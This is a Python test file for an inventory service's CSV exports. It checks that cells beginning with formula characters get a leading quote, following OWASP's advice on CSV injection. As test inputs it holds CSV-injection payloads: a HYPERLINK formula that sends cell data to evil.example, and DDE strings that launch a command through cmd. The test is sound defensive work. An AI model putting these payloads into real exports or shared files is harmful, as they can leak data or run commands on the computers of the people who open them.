"""No CSV the service gives out can make a spreadsheet run a formula. The CSV exports are found in
the served OpenAPI document (each GET with `format=csv`); for each, a filler records values that
spreadsheets would run (a sighting of `=HYPERLINK(...)` made by `=EVIL()`, say), and every cell
of the download must read as text or as a number: one that begins with =, +, -, @, a tab or a
carriage return is written with a leading single quote (OWASP's advice on CSV injection)."""

from __future__ import annotations

import csv
import io
from collections.abc import Callable
from typing import Any

import pytest

from inventory.services.csv_export import FORMULA_STARTS, CsvWriter, cell

from .conftest import Api, unique
from .ledger_helpers import ago, make_world
from .test_paging import served_spec

EVIL_MAKER = "=EVIL()"
EVIL_SERIAL = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


def csv_exports(spec: dict[str, Any]) -> list[str]:
    """The paths of GET operations that offer `format=csv`."""
    found = []
    for path, operations in spec["paths"].items():
        for parameter in operations.get("get", {}).get("parameters", []):
            if parameter.get("name") == "format" and "csv" in parameter["schema"].get("enum", []):
                found.append(path)
    return found


@pytest.mark.parametrize("start", FORMULA_STARTS)
def test_a_formula_like_text_cell_gets_a_leading_quote(start: str) -> None:
    assert cell(f"{start}SUM(A1:A9)") == f"'{start}SUM(A1:A9)"
    [row] = list(csv.reader(io.StringIO(CsvWriter().row([f"{start}1+1", "plain"]))))
    assert row == [f"'{start}1+1", "plain"]


def test_numbers_and_plain_text_are_written_as_they_are() -> None:
    assert [cell(v) for v in (-5, 0.25, None, "AK-47", "x=1")] == [-5, 0.25, "", "AK-47", "x=1"]


def fill_discrepancies(api: Api) -> dict[str, Any]:
    """A monitor's sighting of an unknown serial by a formula-like maker: its summary names both."""
    body = {
        "serial": EVIL_SERIAL,
        "manufacturer": EVIL_MAKER,
        "observed_at": ago(days=1),
        "place": "=cmd|' /C calc'!A0",
        "circumstances": "@SUM(1+1)*cmd|' /C calc'!A0",
    }
    response = api.post("/api/v1/sightings", json=body)
    assert response.status_code == 201, response.get_json()
    return {"kind": "unknown_serial_sighted"}


def fill_report(api: Api) -> dict[str, Any]:
    """A depot with stock and a loss: the report's cells are codes, times and numbers."""
    world = make_world(api)
    serials = [unique("CSV"), unique("CSV")]
    assert world.receive(serials).status_code == 201
    body = {
        "kind": "loss",
        "from": f"depot:{world.depot}",
        "occurred_at": ago(minutes=1),
        "case_ref": "=EVIL()",
        "lines": [{"serial": serials[0]}],
    }
    assert api.post("/api/v1/movements", json=body).status_code == 201
    return {"depot": world.depot}


CSV_FILLERS: dict[str, Callable[[Api], dict[str, Any]]] = {
    "/api/v1/discrepancies": fill_discrepancies,
    "/api/v1/reports/accountability": fill_report,
}


def test_every_csv_export_has_a_filler() -> None:
    exports = set(csv_exports(served_spec()))
    assert exports, "no CSV export found: has the format parameter changed?"
    assert exports == set(CSV_FILLERS), "add a filler to CSV_FILLERS for each CSV export"


@pytest.mark.parametrize("path", sorted(csv_exports(served_spec())))
def test_every_cell_of_every_csv_export_reads_as_text(api: Api, path: str) -> None:
    fill = CSV_FILLERS.get(path)
    assert fill is not None, f"{path} offers CSV without a filler: add one to CSV_FILLERS"
    query = fill(api)
    response = api.get(path, query_string={**query, "format": "csv"})
    assert response.status_code == 200 and response.mimetype == "text/csv"
    rows = list(csv.reader(io.StringIO(response.get_data(as_text=True))))
    assert len(rows) >= 2, rows
    for row in rows:
        for value in row:
            assert not value.startswith(FORMULA_STARTS), f"{path}: a formula cell {value!r}"
    if path == "/api/v1/discrepancies":
        summaries = [row[rows[0].index("summary")] for row in rows[1:]]
        # Summaries begin "weapon <type> <maker> <serial>", so the formula sits inside the cell:
        # it must reach the reader whole, as text.
        mine = [s for s in summaries if EVIL_MAKER in s]
        assert mine and all(s.startswith("weapon ") for s in mine), summaries
